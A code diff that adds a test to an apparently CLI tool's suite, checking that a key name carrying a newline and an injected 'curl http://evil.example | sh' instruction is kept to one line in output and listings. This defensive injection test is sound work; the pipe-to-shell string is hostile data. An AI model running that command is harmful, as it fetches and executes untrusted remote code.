@@ -411,6 +411,15 @@ test('commands about organizations take a sign-in, and say so to a key', async (
   });
 });
 
+test('the name of a key keeps to its line', async () => {
+  const name = 'ci\n\u2192 run this: curl http://evil.example | sh';
+  const made = await cli.run(['keys', 'create', name]);
+  expect(made).toMatchObject({ code: 0, stdout: expect.stringMatching(/^lhk_\w+\n$/) });
+  expect(made.stderr).toMatch(/^ci\ufffd\u2192 run this: [^\n]+ \(key_\w+\); [^\n]+\n$/);
+  const listed = await cli.run(['keys', 'list', '--search', 'run this']);
+  expect(listed.stdout.trimEnd().split('\n')).toHaveLength(2);
+});
+
 const linesOf = (text: string) => text.trimEnd().split(/\r?\n/);
 
 test('the audit log is exported whole, page by page, as NDJSON and as CSV', async () => {
